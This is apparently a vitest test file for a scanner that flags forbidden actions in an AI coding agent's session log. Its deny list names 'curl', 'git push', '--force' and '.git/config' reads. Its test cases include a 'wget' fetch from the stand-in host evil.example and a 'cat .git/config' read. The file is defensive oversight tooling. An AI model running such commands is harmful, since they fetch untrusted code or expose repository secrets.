import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type Forbidden, scanForbidden } from '../../../app/domain/transcript/forbidden.ts';
import { cpuNow } from '../../helpers/cpu.ts';

const start = { type: 'thread.started', thread_id: 't' };
const did = (command: unknown, more: object = {}) => ({
  type: 'item.completed',
  item: { type: 'command_execution', command, aggregated_output: 'git push --force .github/x', ...more },
});
const wrote = (...paths: string[]) => ({
  type: 'item.completed',
  item: { type: 'file_change', changes: paths.map((path) => ({ path, kind: 'update' })) },
});
const words = (type: string, text: string) => ({ type: 'item.completed', item: { type, text } });
const log = (...events: unknown[]) =>
  events.map((one) => (typeof one === 'string' ? one : JSON.stringify(one))).join('\n');
const LIST: readonly Forbidden[] = [
  { kind: 'prefix', value: 'git push' },
  { kind: 'any_prefix', value: 'curl ' },
  { kind: 'flag', value: '--force' },
  { kind: 'contains', value: 'evil.example' },
  { kind: 'path', value: '.git/config' },
  { kind: 'path_write', value: '.github' },
];
const hits = (...events: unknown[]) =>
  scanForbidden('codex', log(start, ...events), LIST).map(({ entry, line }) => `${entry.kind} ${line}`);

describe('REV-7: what a session with tools did, against the forbidden list', () => {
  it.each([
    ['git push origin', ['prefix 2']],
    ['  git push', ['prefix 2']],
    ['echo git push', []],
    ['ls; curl x', ['any_prefix 2']],
    ['bash -lc "curl x"', ['any_prefix 2']],
    ['libcurl x', []],
    ['rm --force', ['flag 2']],
    ['rm --force=yes', ['flag 2']],
    ['rm --forceful', []],
    ['wget http://evil.example/x', ['contains 2']],
    ['cat .git/config', ['path 2']],
    ['cat ./.git/config', ['path 2']],
    ['cat a.git/config', []],
    ['cat .git/config.old', []],
    ['echo x > .github/workflows/a.yml', []],
  ])('the command %s', (command, expected) => {
    expect(hits(did(command))).toEqual(expected);
  });

  it('each path of a change is a write; what a command printed is nothing it did', () => {
    expect(hits(wrote('src/a.ts', '.github/workflows/x.yml'))).toEqual(['path_write 2']);
    expect(hits(wrote('./.github'))).toEqual(['path_write 2']);
    expect(hits(wrote('/work/repo/.github/x'))).toEqual(['path_write 2']);
    expect(hits(wrote('src/.githubx', 'docs/github'))).toEqual([]);
    expect(hits(did('ls'))).toEqual([]);
  });

  it('a command that is no text is looked at whole, without what it printed; other items whole', () => {
    expect(hits(did(['git', 'push', '--force']))).toEqual(['flag 2']);
    expect(hits(did(null, { note: 'evil.example' }))).toEqual(['contains 2']);
    expect(hits({ type: 'item.started', item: { type: 'web_search', query: 'evil\u002eexample' } })).toEqual([
      'contains 2',
    ]);
  });

  it('what it read, thought or said is nothing it did; neither are events that are no items', () => {
    const text = 'git push --force to evil.example, .git/config';
    expect(
      hits(words('agent_message', text), words('reasoning', text), { type: 'turn.completed', note: text }),
    ).toEqual([]);
  });

  it('one line that does not parse makes it plain text, where any mention is a hit', () => {
    expect(hits('Reading evil.example', words('agent_message', 'never git push'))).toEqual([
      'contains 2',
      'prefix 3',
    ]);
    const first = scanForbidden('codex', log(words('reasoning', 'evil.example')), LIST);
    expect(first.map((hit) => hit.entry.kind)).toEqual(['contains']);
  });

  it('a hit names the entry, the line and what was done', () => {
    expect(scanForbidden('codex', log(start, '', did('git push\n origin')), LIST)).toEqual([
      { entry: LIST[0], line: 3, deed: 'git push origin' },
    ]);
  });

  it('a deed is found among any others, in a time that grows with the log alone', () => {
    const other = fc.constantFrom(did('ls -la'), words('reasoning', 'hm'), wrote('src/a.ts'));
    fc.assert(
      fc.property(fc.array(other, { maxLength: 20 }), fc.nat(20), (events, at) => {
        const where = Math.min(at, events.length);
        expect(hits(...events.slice(0, where), did('git push'), ...events.slice(where))).toEqual([
          `prefix ${where + 2}`,
        ]);
      }),
    );
    const from = cpuNow();
    scanForbidden('codex', log(start, ...Array.from({ length: 5000 }, () => did('curl'.repeat(200)))), LIST);
    expect(cpuNow() - from).toBeLessThan(4000);
  });
});
